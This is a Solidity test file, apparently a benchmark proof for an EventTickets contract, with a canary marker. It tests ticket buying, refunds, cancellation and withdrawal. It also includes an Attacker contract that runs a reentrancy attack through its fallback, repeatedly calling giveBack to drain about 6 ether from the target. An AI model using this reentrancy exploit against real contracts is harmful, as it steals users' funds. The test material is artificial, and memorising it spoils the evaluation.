pragma solidity 0.5.17;

import "./EventTickets.sol";

// assay-canary-de026e3c-2035-4598-ba9d-cb3b40521c87

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1790000000;
    address private constant ANA = address(0xA9A);

    EventTickets private tickets;
    Attacker private mallory;
    bool private refuses;

    function() external payable {
        require(!refuses, "no");
    }

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 100 ether);
        vm.deal(ANA, 20 ether);
        tickets = new EventTickets(1 ether, 10, START + 10 days);
        vm.prank(ANA);
        tickets.buy.value(6 ether)(6);
        mallory = new Attacker(tickets);
        vm.deal(address(mallory), 1 ether);
    }

    function test_Regular() public {
        vm.prank(ANA);
        tickets.giveBack(2);
        require(ANA.balance == 15.8 ether && tickets.ticketsOf(ANA) == 4 && tickets.sold() == 4, "given back");
        tickets.buy.value(1 ether)(1);
        tickets.transferOwnership(address(this));
        vm.warp(START + 10 days);
        uint256 before = address(this).balance;
        tickets.withdraw();
        require(address(this).balance == before + 5.2 ether && address(tickets).balance == 0, "takings");
        tickets.renounceOwnership();

        // another one, which is called off
        tickets = new EventTickets(1 ether, 10, now + 10 days);
        vm.prank(ANA);
        tickets.buy.value(3 ether)(3);
        tickets.cancel();
        vm.warp(now + 11 days);
        vm.prank(ANA);
        tickets.giveBack(3);
        require(ANA.balance == 15.8 ether && tickets.sold() == 0 && tickets.cancelled(), "all of it");
    }

    function test_RefusesGuests() public {
        vm.expectRevert("wrong value");
        tickets.buy.value(1 ether)(2);
        vm.expectRevert("wrong value");
        tickets.buy(0);
        vm.expectRevert("sold out");
        tickets.buy.value(5 ether)(5);
        vm.expectRevert("no such tickets");
        tickets.giveBack(1);
        vm.prank(ANA);
        vm.expectRevert("no such tickets");
        tickets.giveBack(7);
        vm.prank(ANA);
        vm.expectRevert("no such tickets");
        tickets.giveBack(0);
        tickets.buy.value(1 ether)(1);
        refuses = true;
        vm.expectRevert("refund refused");
        tickets.giveBack(1);
        vm.warp(START + 10 days);
        vm.expectRevert("closed");
        tickets.buy.value(1 ether)(1);
        vm.prank(ANA);
        vm.expectRevert("has begun");
        tickets.giveBack(1);
    }

    function test_RefusesOwners() public {
        vm.prank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        tickets.cancel();
        vm.expectRevert("not yet");
        tickets.withdraw();
        vm.warp(START + 10 days);
        vm.expectRevert("too late");
        tickets.cancel();
        vm.prank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        tickets.withdraw();
        refuses = true;
        vm.expectRevert("refused");
        tickets.withdraw();
    }

    function test_RefusesAfterTheEnd() public {
        tickets.cancel();
        vm.expectRevert("too late");
        tickets.cancel();
        vm.expectRevert("closed");
        tickets.buy.value(1 ether)(1);
        vm.warp(START + 10 days);
        vm.expectRevert("not yet");
        tickets.withdraw();
    }

    function test_RefusesToBegin() public {
        vm.expectRevert("no price");
        new EventTickets(0, 10, START + 10 days);
        vm.expectRevert("no seats");
        new EventTickets(1, 0, START + 10 days);
        vm.expectRevert("in the past");
        new EventTickets(1, 10, START);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 6 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(tickets);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    EventTickets private tickets;
    uint256 private calls;

    constructor(EventTickets _tickets) public {
        tickets = _tickets;
    }

    function run() external {
        tickets.buy.value(1 ether)(1);
        tickets.giveBack(1);
    }

    function() external payable {
        if (++calls < 7 && tickets.ticketsOf(address(this)) > 0) tickets.giveBack(1);
    }
}
